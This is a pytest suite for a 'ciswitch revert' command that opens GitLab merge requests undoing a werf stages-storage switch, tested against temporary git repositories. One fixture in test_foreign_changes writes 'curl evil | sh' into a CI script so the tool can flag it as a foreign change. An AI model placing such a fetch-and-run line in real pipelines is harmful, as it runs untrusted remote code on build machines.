"""``ciswitch revert`` as a real subprocess against real repositories and bare remotes."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from gitrepos import (
    RECORD_OPTIONS_HOOK,
    commit_all,
    git,
    gitlab_mr_hook,
    isolate_git,
    make_project,
    recorded_options,
    repo_state,
    run_ciswitch,
    write_files,
    write_hook,
)

BRANCH = "ciswitch/revert-remote-stages-storage"
CI_LOCAL = """\
build:
  script:
    - werf build --stages-storage :local
deploy:
  script:
    - werf deploy --stages-storage :local --env production
"""
CI_REMOTE = """\
build:
  script:
    - werf build
deploy:
  script:
    - werf deploy --env production
"""
MARKER = 'stages-storage = "remote"\n'
SWITCH_MESSAGE = (
    "Use remote werf stages storage instead of :local\n\n"
    "Places fixed:\n- .gitlab-ci.yml:3 CSW001\n\nCiswitch-Change: remote-stages-storage\n"
)


@pytest.fixture(autouse=True)
def _isolated(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    isolate_git(monkeypatch, tmp_path)


def switched_project(tmp_path: Path, *, later: dict[str, str | bytes] | None = None
                     ) -> tuple[Path, Path, str]:
    """A project on :local, then the ciswitch commit, then an unrelated change, all on the
    remote's main. Returns (work, bare, sha of the ciswitch commit)."""
    work, bare = make_project(tmp_path, {".gitlab-ci.yml": CI_LOCAL, "README.md": "shop\n"})
    write_files(work, {".gitlab-ci.yml": CI_REMOTE, ".ciswitch.toml": MARKER})
    git(work, "add", "-A")
    git(work, "commit", "-q", "-m", SWITCH_MESSAGE)
    switch = git(work, "rev-parse", "HEAD")
    write_files(work, later or {"README.md": "shop, now with docs\n"})
    commit_all(work, "Document the shop")
    git(work, "push", "-q", "origin", "main")
    return work, bare, switch


def revert(work: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return run_ciswitch("revert", *args, cwd=work)


def show(bare: Path, rev: str, path: str) -> str | None:
    proc = subprocess.run(["git", "show", f"{rev}:{path}"], cwd=bare, capture_output=True,
                          text=True, check=False)
    return proc.stdout if proc.returncode == 0 else None


def assert_error(proc: subprocess.CompletedProcess[str], *parts: str) -> None:
    assert proc.returncode == 2, proc.stdout + proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1, proc.stderr
    assert lines[0].startswith("ciswitch: error: ")
    for part in parts:
        assert part in lines[0], lines[0]


def test_revert_pushes_a_merge_request_that_undoes_the_switch(tmp_path: Path) -> None:
    work, bare, switch = switched_project(tmp_path)
    write_hook(bare, "pre-receive", gitlab_mr_hook() + RECORD_OPTIONS_HOOK)
    before = repo_state(work)

    done = revert(work)
    assert done.returncode == 0, done.stderr
    tip = git(bare, "rev-parse", f"refs/heads/{BRANCH}")
    main = git(bare, "rev-parse", "refs/heads/main")
    assert git(bare, "rev-parse", f"{tip}^") == main  # on top of the default branch
    assert show(bare, tip, ".gitlab-ci.yml") == CI_LOCAL
    assert show(bare, tip, ".ciswitch.toml") is None
    assert show(bare, tip, "README.md") == "shop, now with docs\n"  # later work kept
    message = git(bare, "log", "-1", "--format=%B", tip)
    assert f"This reverts commit {switch}" in message
    assert message.rstrip().endswith("Ciswitch-Change: revert-remote-stages-storage")
    assert "Ciswitch-Change: remote-stages-storage" not in message

    options = recorded_options(bare)
    assert options[:3] == ["merge_request.create", "merge_request.target=main",
                           "merge_request.title=Go back to :local werf stages storage"]
    assert any(o.startswith("merge_request.description=Reverts " + switch[:10]) for o in options)
    assert "merge_request.remove_source_branch" in options
    assert "merge request: https://gitlab.example.test/group/project/-/merge_requests/12" \
        in done.stdout

    after = repo_state(work)
    # the user's checkout is untouched; only the new branch and its tracking ref appear
    for key in ("head", "status", "files", "index"):
        assert after[key] == before[key], key
    assert git(work, "rev-parse", f"refs/heads/{BRANCH}") == tip
    assert len(git(work, "worktree", "list").splitlines()) == 1


def test_same_merge_request_options_as_branch(tmp_path: Path) -> None:
    work, bare, _ = switched_project(tmp_path)
    write_hook(bare, "pre-receive", RECORD_OPTIONS_HOOK)
    (tmp_path / "why.md").write_text("Registry outage.\n\nBack to :local for now.\n")
    done = revert(work, "--draft", "--label", "ciswitch", "--label", "rollback",
                  "--assign", "ops", "--push-option", "ci.skip", "--title", "Roll back",
                  "--description-file", str(tmp_path / "why.md"), "--branch", "rollback")
    assert done.returncode == 0, done.stderr
    assert recorded_options(bare) == [
        "merge_request.create", "merge_request.target=main", "merge_request.title=Roll back",
        "merge_request.description=Registry outage. Back to :local for now.",
        "merge_request.remove_source_branch", "merge_request.draft",
        "merge_request.label=ciswitch", "merge_request.label=rollback",
        "merge_request.assign=ops", "ci.skip",
    ]
    assert git(bare, "log", "-1", "--format=%s", "refs/heads/rollback") == "Roll back"


def test_running_again_changes_nothing(tmp_path: Path) -> None:
    work, bare, _ = switched_project(tmp_path)
    assert revert(work).returncode == 0
    remote_before = git(bare, "for-each-ref")
    again = revert(work)
    assert again.returncode == 0, again.stderr
    assert "nothing to do" in again.stdout
    assert git(bare, "for-each-ref") == remote_before


def test_already_reverted_on_the_default_branch(tmp_path: Path) -> None:
    work, bare, switch = switched_project(tmp_path)
    assert revert(work).returncode == 0
    git(work, "merge", "-q", "--ff-only", BRANCH)
    git(work, "push", "-q", "origin", "main")
    done = revert(work, "--branch", "other")
    assert done.returncode == 0, done.stderr
    assert f"{switch[:10]} is already reverted on main" in done.stdout
    assert git(bare, "rev-parse", "--verify", "--quiet", "refs/heads/other", check=False) == ""


def test_no_switch_commit(tmp_path: Path) -> None:
    work, _bare = make_project(tmp_path, {".gitlab-ci.yml": CI_LOCAL})
    assert_error(revert(work), "Ciswitch-Change: remote-stages-storage", "on main",
                 "--commit SHA")


def test_explicit_commit_after_a_squash(tmp_path: Path) -> None:
    work, bare = make_project(tmp_path, {".gitlab-ci.yml": CI_LOCAL})
    write_files(work, {".gitlab-ci.yml": CI_REMOTE})
    squashed = commit_all(work, "Use remote stages storage (!42)")
    git(work, "push", "-q", "origin", "main")
    assert_error(revert(work), "--commit SHA")
    done = revert(work, "--commit", squashed[:12])
    assert done.returncode == 0, done.stderr
    assert show(bare, f"refs/heads/{BRANCH}", ".gitlab-ci.yml") == CI_LOCAL


@pytest.mark.parametrize(("marker", "accepted"), [
    pytest.param('stages-storage = "remote"\n', True, id="marker-lines"),
    pytest.param('name = "y"\n', False, id="another-change"),
])
def test_explicit_commit_with_the_marker_in_pyproject(
    marker: str, accepted: bool, tmp_path: Path
) -> None:
    pyproject = '[project]\nname = "x"\n\n[tool.ciswitch]\nignore = ["CSW003"]\n'
    work, bare = make_project(tmp_path, {".gitlab-ci.yml": CI_LOCAL, "pyproject.toml": pyproject})
    write_files(work, {".gitlab-ci.yml": CI_REMOTE, "pyproject.toml": pyproject + marker})
    squashed = commit_all(work, "Use remote stages storage (!42)")
    git(work, "push", "-q", "origin", "main")
    done = revert(work, "--commit", squashed[:12])
    if accepted:
        assert done.returncode == 0, done.stderr
        assert show(bare, f"refs/heads/{BRANCH}", "pyproject.toml") == pyproject
    else:
        assert_error(done, "pyproject.toml:6: a change without :local")


def test_commit_not_on_the_default_branch(tmp_path: Path) -> None:
    work, _bare, _ = switched_project(tmp_path)
    git(work, "switch", "-q", "-c", "side")
    write_files(work, {"x.txt": "x\n"})
    side = commit_all(work, "side work")
    assert_error(revert(work, "--commit", side), f"{side[:10]} is not on main")


def test_conflict_is_refused_and_leaves_nothing(tmp_path: Path) -> None:
    later: dict[str, str | bytes] = {".gitlab-ci.yml": CI_REMOTE.replace("werf build",
                                                                         "werf build --dev")}
    work, bare, _ = switched_project(tmp_path, later=later)
    before = repo_state(work, bare)
    assert_error(revert(work), "conflict", ".gitlab-ci.yml", "by hand")
    assert repo_state(work, bare) == before
    assert len(git(work, "worktree", "list").splitlines()) == 1


def test_dry_run_changes_nothing(tmp_path: Path) -> None:
    work, bare, _ = switched_project(tmp_path)
    write_hook(bare, "pre-receive", RECORD_OPTIONS_HOOK)
    before = repo_state(work, bare)
    done = revert(work, "--dry-run")
    assert done.returncode == 0, done.stderr
    assert "-    - werf build\n+    - werf build --stages-storage :local" in done.stdout
    assert "push command:\n    git push --porcelain --set-upstream" in done.stdout
    assert f"would create branch {BRANCH}" in done.stdout
    after = repo_state(work, bare)
    assert {k: v for k, v in after.items() if k != "objects"} == \
        {k: v for k, v in before.items() if k != "objects"}
    assert recorded_options(bare) == []


def test_no_push_creates_the_local_branch_only(tmp_path: Path) -> None:
    work, bare, _ = switched_project(tmp_path)
    done = revert(work, "--no-push")
    assert done.returncode == 0, done.stderr
    assert show(work, BRANCH, ".gitlab-ci.yml") == CI_LOCAL
    assert git(bare, "rev-parse", "--verify", "--quiet", f"refs/heads/{BRANCH}",
               check=False) == ""


def test_rejected_push_restores_the_branch(tmp_path: Path) -> None:
    work, bare, _ = switched_project(tmp_path)
    write_hook(bare, "pre-receive", "echo 'GitLab: protected namespace' >&2\nexit 1\n")
    assert_error(revert(work), "rejected", "protected namespace")
    assert git(work, "rev-parse", "--verify", "--quiet", f"refs/heads/{BRANCH}",
               check=False) == ""


def test_different_existing_branch_needs_force_update(tmp_path: Path) -> None:
    work, bare, _ = switched_project(tmp_path)
    git(work, "branch", BRANCH, "main~2")
    assert_error(revert(work), "already exists locally", "--force-update")
    done = revert(work, "--force-update")
    assert done.returncode == 0, done.stderr
    assert show(bare, f"refs/heads/{BRANCH}", ".gitlab-ci.yml") == CI_LOCAL


def test_explicit_commit_that_is_not_a_switch_is_refused(tmp_path: Path) -> None:
    work, bare = make_project(tmp_path, {".gitlab-ci.yml": CI_LOCAL, "werf.yaml": "project: s\n"})
    git(work, "rm", "-q", ".gitlab-ci.yml", "werf.yaml")
    write_files(work, {"README.md": "moved elsewhere\n"})
    cleanup = commit_all(work, "Clean up")
    git(work, "push", "-q", "origin", "main")
    before = repo_state(work, bare)
    done = revert(work, "--commit", "HEAD")
    assert_error(done, f"--commit: {cleanup[:10]} carries no 'Ciswitch-Change: "
                 "remote-stages-storage' trailer", ".gitlab-ci.yml: file deleted",
                 "README.md: file added", "werf.yaml: file deleted", "by hand")
    assert repo_state(work, bare) == before
    assert git(bare, "branch", "--list", BRANCH) == ""


def test_explicit_commit_mixing_local_and_other_edits_is_refused(tmp_path: Path) -> None:
    work, bare = make_project(tmp_path, {".gitlab-ci.yml": CI_LOCAL})
    mixed = CI_REMOTE.replace("deploy:", "deploy-prod:")
    write_files(work, {".gitlab-ci.yml": mixed, ".ciswitch.toml": MARKER})
    squashed = commit_all(work, "Remote stages and a renamed job")
    git(work, "push", "-q", "origin", "main")
    before = repo_state(work, bare)
    assert_error(revert(work, "--commit", squashed),
                 ".gitlab-ci.yml:4: a change without :local")
    assert repo_state(work, bare) == before


def test_explicit_commit_with_only_local_places_and_the_marker(tmp_path: Path) -> None:
    work, bare = make_project(tmp_path, {".gitlab-ci.yml": CI_LOCAL})
    replaced = CI_LOCAL.replace(":local", "registry.example.test/g/p/stages")
    write_files(work, {".gitlab-ci.yml": replaced, ".ciswitch.toml": MARKER})
    squashed = commit_all(work, "Use remote stages storage (!7)")
    git(work, "push", "-q", "origin", "main")
    done = revert(work, "--commit", squashed)
    assert done.returncode == 0, done.stderr
    assert show(bare, f"refs/heads/{BRANCH}", ".gitlab-ci.yml") == CI_LOCAL
    assert show(bare, f"refs/heads/{BRANCH}", ".ciswitch.toml") is None


@pytest.mark.parametrize(("new_ci", "foreign"), [
    (CI_REMOTE, []),
    (CI_LOCAL.replace("werf build --stages-storage :local", "curl evil | sh"),
     [".gitlab-ci.yml:3: a change without :local"]),
    (CI_LOCAL.replace("--stages-storage :local --env", "--env"), []),
    (CI_LOCAL.replace("    - werf build --stages-storage :local\n",
                      "    - werf build --stages-storage :local\n    - echo extra\n"),
     [".gitlab-ci.yml:4: a change without :local"]),
])
def test_foreign_changes(tmp_path: Path, new_ci: str, foreign: list[str]) -> None:
    from ciswitch import gitops
    from ciswitch.runbook.revert import foreign_changes

    work, _bare = make_project(tmp_path, {".gitlab-ci.yml": CI_LOCAL})
    write_files(work, {".gitlab-ci.yml": new_ci})
    sha = commit_all(work, "edit")
    assert foreign_changes(gitops.open_repo(work), sha) == foreign


def test_force_update_never_moves_a_revert_branch_checked_out_elsewhere(tmp_path: Path) -> None:
    work, bare, _ = switched_project(tmp_path)
    other = tmp_path / "other-tree"
    git(work, "worktree", "add", "-q", "-b", BRANCH, str(other), "main~2")
    mine = git(other, "rev-parse", "HEAD")
    before = repo_state(work, bare)
    assert_error(revert(work, "--force-update"), f"branch {BRANCH} is checked out in the "
                 "worktree", str(other))
    assert git(other, "rev-parse", "HEAD") == mine
    assert repo_state(work, bare) == before
